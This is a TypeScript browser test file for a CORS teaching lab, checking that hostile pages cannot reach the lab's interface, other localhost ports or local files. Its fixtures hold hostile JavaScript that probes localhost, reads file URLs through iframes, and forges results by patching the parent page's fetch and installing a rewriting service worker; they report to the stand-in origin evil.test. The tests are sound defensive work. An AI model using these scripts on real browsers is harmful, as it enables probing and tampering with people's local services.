import { once } from 'node:events'
import { createServer, type AddressInfo } from 'node:net'
import { join } from 'node:path'
import { pathToFileURL } from 'node:url'
import { afterAll, beforeAll, expect, it } from 'vitest'
import { pageHTML, pageRoutes, pressQuery, route } from '#shared/learn/page-html'
import { newMockServer } from '#shared/policy/mock-server'
import type { Scenario } from '#shared/scenario/scenario'
import { createLab } from '#node/lab'
import { serveWebHost, type WebHost } from '#node/web-host/serve'
import { sampled } from '../support/quick.ts'
import { inEachBrowser, prove, scratch } from './real-browsers.ts'

const log: string[] = []
const lab = createLab({
  name: 'web',
  version: '0',
  workspaceFile: join(scratch, 'data', 'workspace.json'),
  report: (line) => log.push(String(line)),
})
/** The lab's own interface, as `corslab web` serves it. */
let host: WebHost
/** Another program on this machine, which lets anybody read. */
const neighbour = createServer((socket) => {
  reached += 1
  socket.on('error', () => undefined)
  socket.end('HTTP/1.1 200 OK\r\nContent-Length: 9\r\nAccess-Control-Allow-Origin: *\r\nConnection: close\r\n\r\nneighbour')
})
let reached = 0
let neighbourPort = 0

beforeAll(async () => {
  const page = { type: 'text/html; charset=utf-8', bytes: Buffer.from('<title>interface</title>') }
  host = await serveWebHost({ port: 0, files: new Map([['/', page]]), token: 'secret', service: lab.service, report: () => undefined })
  lab.hide(host.port)
  neighbour.listen(0, '127.0.0.1')
  await once(neighbour, 'listening')
  neighbourPort = (neighbour.address() as AddressInfo).port
})
afterAll(async () => {
  neighbour.close()
  await host.close()
  await lab.close()
})

/** Tries to get at the ports in every way that a page has, and tells what came of it. */
const attack = (ports: readonly number[]): string => `
const text = async (url, init) => /interface|neighbour/.test(await (await fetch(url, init)).text())
const event = (target, good, bad) => new Promise((resolve) => {
  target[good] = () => resolve(true)
  target[bad] = () => resolve(false)
})
const ways = {
  fetch: (where) => text('http://' + where + '/'),
  https: (where) => text('https://' + where + '/'),
  'no-cors': (where) => text('http://' + where + '/', { mode: 'no-cors' }),
  beacon: (where) => navigator.sendBeacon('http://' + where + '/', 'x') && false,
  WebSocket: (where) => event(new WebSocket('ws://' + where + '/', 'secret'), 'onopen', 'onerror'),
  EventSource: (where) => event(new EventSource('http://' + where + '/'), 'onopen', 'onerror'),
}
const found = []
const attempt = async (way, where) => {
  const late = new Promise((resolve) => setTimeout(resolve, 1500, false))
  const got = await Promise.race([(async () => ways[way](where))().catch(() => false), late])
  if (got) found.push(way + ' ' + where)
}
const names = ['127.0.0.1', 'localhost', '[::1]', '127.1.2.3', '0.0.0.0', 'lab.localhost']
const places = ${JSON.stringify(ports)}.flatMap((port) => names.map((name) => name + ':' + port))
Promise.all(places.flatMap((where) => Object.keys(ways).map((way) => attempt(way, where))))
  .then(() => fetch('/found?' + encodeURIComponent(JSON.stringify(found))))
`

/** A page whose script comes from its own server and does what it likes; the second request gives it the time. */
function hostileAt(origin: string): Scenario {
  const script = `${origin}/attack.js`
  const body = attack([host.port, neighbourPort])
  return {
    id: 'hostile',
    page: { origin },
    request: { api: 'script', url: script, headers: [] },
    then: [{ api: 'fetch', url: `${origin}/later`, headers: [], after: 2500 }],
    server: [{ url: script, response: { status: 200, headers: [['Content-Type', 'text/javascript']], body } }],
  }
}

/** The same as the page of a lesson, which also tries for files: with the lab's interface it would have the lab's token, too. */
const lessonPage = () =>
  pageHTML({
    title: 'Hostile',
    button: 'Press',
    script: `
for (const url of ${JSON.stringify(['file:///etc/hostname', pathToFileURL(join(scratch, 'data', 'workspace.json')).href])}) {
  await read('fetch', url)
  const frame = document.createElement('iframe')
  frame.src = url
  document.body.append(frame)
  await new Promise((resolve) => setTimeout(resolve, 200))
  try {
    const shown = frame.contentWindow.location.protocol === 'file:' && frame.contentDocument.body.textContent
    saw('frame', shown ? 'read' : 'blocked', shown)
  } catch (error) {
    saw('frame', 'blocked', error)
  }
}
fetch('/files?' + encodeURIComponent(JSON.stringify(reports.map(({ outcome }) => outcome))))
${attack([host.port, neighbourPort])}`,
  })

/**
 * The same page tries to speak for the page that runs it, which has its origin: it looks for what that one's calls are known by, and gets into
 * its way. What it forges says `opaqueredirect`.
 */
const impostor = () =>
  pageHTML({
    title: 'Hostile',
    button: 'Press',
    script: `
const runner = parent
const forged = (task) => JSON.stringify({ task, endings: [{ outcome: 'opaqueredirect' }, { outcome: 'opaqueredirect' }] })
const calls = (text) => String(text).match(/\\?[0-9a-f]{16,}[.\\w]*/g) ?? []
async function forge(places) {
  for (const place of new Set(places.flatMap((each) => [each, each.replace(/(\\.\\w+)?$/, '.next')])))
    for (const task of [1, 2, 3]) void fetch('/' + place, { method: 'POST', body: forged(task) }).catch(() => {})
}
const seen = runner.performance.getEntriesByType('resource').map(({ name }) => name).join(' ')
saw('runner', 'done', runner.location.href + ' ' + seen.length)
await forge(calls(seen + runner.document.documentElement.outerHTML))
forge(calls(await (await fetch('/', { headers: { Accept: 'text/html' } })).text()))
const another = document.createElement('iframe')
another.src = '/'
another.onload = () => {
  forge(calls(another.contentDocument.documentElement.outerHTML))
  forge(calls(another.contentWindow.performance.getEntriesByType('resource').map(({ name }) => name).join(' ')))
}
document.body.append(another)
const { fetch: real, JSON: json } = runner
const isReport = (value) => value?.endings !== undefined
const stringify = json.stringify.bind(json)
const inFetch = (url, init) => real.call(runner, url, /endings/.test(init?.body) ? { ...init, body: init.body.replace(/"load"|"basic"/g, '"opaqueredirect"') } : init)
Object.defineProperty(runner, 'fetch', { value: inFetch })
json.stringify = (value, ...rest) => stringify(isReport(value) ? { ...value, endings: JSON.parse(forged(1)).endings } : value, ...rest)
await navigator.serviceWorker?.register('/worker.js').catch(() => {})
await fetch('/tried')
`,
  })

const impostorWorker = `
addEventListener('install', () => skipWaiting())
addEventListener('activate', (event) => event.waitUntil(clients.claim()))
addEventListener('fetch', (event) => {
  if (event.request.method === 'POST') event.respondWith(event.request.text().then((text) => fetch(event.request.url, {
    method: 'POST', body: text.replace(/"load"|"basic"/g, '"opaqueredirect"'),
  })))
})`

const asking = (port: number): Scenario => ({
  id: 'asking',
  page: { origin: 'http://evil.test' },
  request: { api: 'fetch', url: `http://127.0.0.1:${port}/`, headers: [] },
})

inEachBrowser('a hostile page', (browser) => {
  const places: [who: string, origin: () => string][] = [
    ['that says it is the lab itself', () => `http://127.0.0.1:${host.port}`],
    ['of another origin', () => 'http://evil.test'],
  ]
  it.each(sampled(places, 2))('%s reaches neither the lab’s interface nor another port of this machine', async (_, origin) => {
    const before = reached
    const { exchanges } = await prove(lab, browser.program, hostileAt(origin()))
    const report = exchanges.map(({ url }) => new URL(url)).find(({ pathname }) => pathname === '/found')
    expect(decodeURIComponent(report?.search ?? 'no report')).toBe('?[]')
    expect(reached).toBe(before)
    expect(log.join('\n')).toContain(`Refused: GET http://localhost:${neighbourPort}/. `)
  })

  it('that a lesson opens reaches neither the lab’s interface, nor another port, nor a file', async () => {
    const before = reached
    const page = newMockServer({
      id: 'lesson/hostile/evil',
      name: 'Hostile page',
      port: 0,
      hosts: ['http://evil.test'],
      routes: pageRoutes({ '/page': lessonPage() }),
    })
    await lab.service['mock-server.start'](page)
    const { exchanges } = await prove(lab, browser.program, {
      id: 'page hostile',
      page: { origin: 'http://evil.test' },
      request: { api: 'iframe', url: `http://evil.test/page${pressQuery}`, headers: [] },
      then: [{ api: 'fetch', url: 'http://evil.test/later', headers: [], after: 2800 }],
    })
    await lab.service['mock-server.stop']({ id: page.id })
    const told = (path: string) =>
      decodeURIComponent(exchanges.map(({ url }) => new URL(url)).find(({ pathname }) => pathname === path)?.search ?? '')
    expect(told('/files')).toBe('?["blocked","blocked","blocked","blocked"]')
    expect(told('/found')).toBe('?[]')
    expect(reached).toBe(before)
  })

  it.each(sampled(['http://evil.test', 'http://localhost'], 2))(
    'of a lesson, at %s, cannot speak for the page that runs it',
    async (origin) => {
      const page = newMockServer({
        id: 'lesson/hostile/impostor',
        name: 'Impostor',
        port: 0,
        hosts: ['http://evil.test'],
        routes: [
          ...pageRoutes({ '/page': impostor() }),
          route('GET', '/worker.js', 200, [['Content-Type', 'text/javascript']], impostorWorker),
        ],
      })
      const { port } = await lab.service['mock-server.start'](page)
      const at = origin === 'http://localhost' ? `${origin}:${port}` : origin
      const { exchanges, outcomes } = await prove(lab, browser.program, {
        id: 'page impostor',
        page: { origin: at },
        request: { api: 'iframe', url: `${at}/page${pressQuery}`, headers: [] },
        then: [{ api: 'fetch', url: `${at}/later`, headers: [], after: 2500 }],
      })
      await lab.service['mock-server.stop']({ id: page.id })
      expect(exchanges.map(({ url }) => new URL(url).pathname)).toContain('/tried')
      expect(outcomes?.map(({ outcome }) => outcome)).toEqual(['load', 'basic'])
    },
  )

  it('reaches the port that its user allows, but never the lab’s interface', async () => {
    expect(await prove(lab, browser.program, asking(neighbourPort))).toMatchObject({ outcome: 'network-error' })
    expect(await prove(lab, browser.program, asking(neighbourPort), true)).toMatchObject({ outcome: 'cors', status: 200 })
    expect(await prove(lab, browser.program, asking(host.port), true)).toMatchObject({
      outcome: 'network-error',
      exchanges: [{ url: `http://127.0.0.1:${host.port}/` }],
    })
  })
})
